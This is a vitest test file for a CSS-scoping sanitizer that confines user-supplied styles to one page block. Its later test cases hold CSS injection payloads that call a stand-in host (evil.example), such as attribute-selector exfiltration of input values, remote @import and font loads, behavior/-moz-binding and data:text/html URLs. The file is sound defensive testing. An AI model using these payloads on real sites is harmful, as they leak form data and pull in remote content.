import { expect, test } from "vitest";
import { scopeCss } from "./scope-css.ts";

test.each([
  [".card, h2 > a:hover { color: red }", "#b-1 .card,#b-1 h2>a:hover{color:red}"],
  [":root { margin: 0 } body .x { margin: 1px } html { padding: 0 }", "#b-1{margin:0}#b-1 .x{margin:1px}#b-1{padding:0}"],
  ["@media (width < 600px) { .x { color: red } }", "@media (width<600px){#b-1 .x{color:red}}"],
  [".a { color: red; &:hover { color: #00f } .b & { color: #0f0 } }", /^#b-1 \.a\{color:red\}/],
  ["& .x { color: red } &:hover { color: #00f } & { margin: 0 }", "#b-1 .x{color:red}#b-1:hover{color:#00f}#b-1{margin:0}"],
  [
    "@media (width < 600px) { & > .x { color: red } } :scope .y { color: red }",
    "@media (width<600px){#b-1>.x{color:red}}#b-1 .y{color:red}",
  ],
  [":root ~ *, .a ~ .b { color: red }", "#b-1 .a~.b{color:red}"],
  [":root, .a { .x { color: red } & ~ .y { color: red } }", ":is(#b-1,#b-1 .a) .x,:is(#b-1 .a)~.y{color:red}"],
  [".a { background: url(/files/1/x.png) }", "#b-1 .a{background:url(/files/1/x.png)}"],
])("%s is kept, for the block alone [BL-53]", (css, expected) => {
  if (typeof expected === "string") expect(scopeCss(css, "b-1")).toBe(expected);
  else expect(scopeCss(css, "b-1")).toMatch(expected);
});

test.each([
  "@import url(//evil.example/x.css);",
  "@font-face { font-family: x; src: url(//evil.example/f.woff) }",
  ".a { behavior: url(x.htc) }",
  ".a { -moz-binding: url(x.xml#y) }",
  ".a { position: fixed }",
  ".a { position: FIXED !important }",
  ".a { position: var(--p) }",
  "@charset 'utf-8'; @namespace svg url(http://evil.example/);",
  "{{{{",
  "not css at all <script>",
])("%s leaves nothing [UGC-05]", (css) => {
  expect(scopeCss(css, "b-1").replace(/#b-1[^{]*\{\}/g, "")).toBe("");
});

test.each([
  "input[value^='a'] { background: url(https://evil.example/?a) }",
  ".a { background: url('//evil.example/x') }",
  ".a { background: url('/\\\\evil.example/x') }",
  ".a { background: image-set(url(https://evil.example/x) 1x) }",
  ".a { background: image-set('https://evil.example/x' 1x) }",
  ".a { --y: image-set('https://evil.example/x' 1x); background: var(--y) }",
  ".a { background: src('https://evil.example/x') }",
  ".a { --x: url(https://evil.example/x); background: var(--x) }",
  ".a { cursor: url(https://evil.example/x), auto }",
  ".a { list-style: url(data:text/html,x) }",
])("%s asks nobody else for anything [UGC-05]", (css) => {
  expect(scopeCss(css, "b-1")).not.toMatch(/evil|text\/html/);
});

test.each([
  "} body { color: red } .a { color: red } } * { color: red } .x:not(.y) { color: red } .a { .b { & + & { color: red } } }",
  "& { color: red } & .footer { color: red } .b & { color: red } :is(&, .a) .b { color: red } :not(&) { color: red }",
  ":root ~ * { color: red } body + .x { color: red } html.y ~ * .z { color: red } & + * { color: red } &:hover ~ .x { color: red } .a { color: red }",
  ":root { & ~ * { color: red } + .x { color: red } } :root, .a { & ~ * { color: red } .b & ~ * { color: red } }",
  "@scope (:root ~ *) { :scope .x { color: red } & { color: red } } @layer x { & ~ .y { color: red } & .z { color: red } }",
])("no rule of %s reaches out of the block [UGC-05]", (css) => {
  const selectors = [...scopeCss(css, "b-1").matchAll(/([^{}]+)\{color:red\}/g)].flatMap(([, list = ""]) => list.split(/,(?![^(]*\))/));
  expect(selectors.length).toBeGreaterThan(0);
  for (const selector of selectors) expect(selector).toMatch(/^(:is\()?#b-1(?![^ >]*[~+])/);
});
